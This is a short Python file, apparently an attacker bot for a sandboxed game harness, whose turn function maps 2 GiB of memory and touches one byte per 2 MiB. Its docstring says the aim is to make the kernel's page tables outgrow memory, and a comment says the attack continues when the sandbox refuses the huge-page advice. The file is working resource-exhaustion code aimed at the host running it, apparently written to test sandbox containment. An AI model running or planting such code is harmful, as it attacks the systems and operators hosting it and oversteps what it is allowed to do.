"""Touches one page in every two megabytes, so that the kernel's tables outgrow its own memory."""

import mmap
from contextlib import suppress

from matchbox.games.bomb import *

kept = []


def attempt():
    if not kept:
        kept.append(mmap.mmap(-1, 2 << 30, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
        with suppress(OSError):  # The wall refuses the advice, and the attack goes on without it.
            kept[0].madvise(mmap.MADV_NOHUGEPAGE)
        for page in range(0, 2 << 30, 2 << 20):
            kept[0][page] = 1


class Attacker(Player):
    def name(self):
        return "Attacker"

    def turn(self, game_data, play_a_card):
        try:
            attempt()
        except Exception as error:
            print("refused:", type(error).__name__, error)
        return None

    def defuse(self, game_data):
        return 0
